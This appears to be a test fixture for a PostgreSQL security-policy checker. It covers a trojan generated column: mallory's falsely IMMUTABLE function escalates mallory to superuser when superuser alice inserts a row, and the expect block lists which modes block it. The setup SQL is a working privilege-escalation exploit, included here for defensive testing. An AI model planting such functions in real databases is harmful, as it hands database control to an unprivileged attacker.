/*---
title: Generated column calling the table owner's function
pattern: Trojan generation expression on a table the victim inserts into (CVE-2020-25695 family)
description: >
  mallory owns a products table with a stored generated column computed by
  mallory.price_label(numeric), declared IMMUTABLE as PostgreSQL requires, which calls a
  volatile helper. mallory lets every role insert. alice, a superuser, adds a product; the
  generation expression runs mallory's functions with alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: generated_column, object: generated column mallory.products.label, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: generated_column, object: generated column mallory.products.label, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: generated_column, object: generated column mallory.products.label, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: generated_column, object: generated column mallory.products.label, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: generated_column, object: generated column mallory.products.label, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: generated_column, object: generated column mallory.products.label, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: generated_column, object: generated column mallory.products.label, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.refresh_rates() RETURNS void
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
END $$;
CREATE FUNCTION mallory.price_label(numeric) RETURNS text
LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  PERFORM mallory.refresh_rates();
  RETURN 'EUR ' || $1::text;
END $$;
CREATE TABLE mallory.products (
  name text PRIMARY KEY,
  price numeric NOT NULL,
  label text GENERATED ALWAYS AS (mallory.price_label(price)) STORED
);
GRANT INSERT ON mallory.products TO PUBLIC;
RESET ROLE;

-- @step alice
INSERT INTO mallory.products (name, price) VALUES ('widget', 9.99);
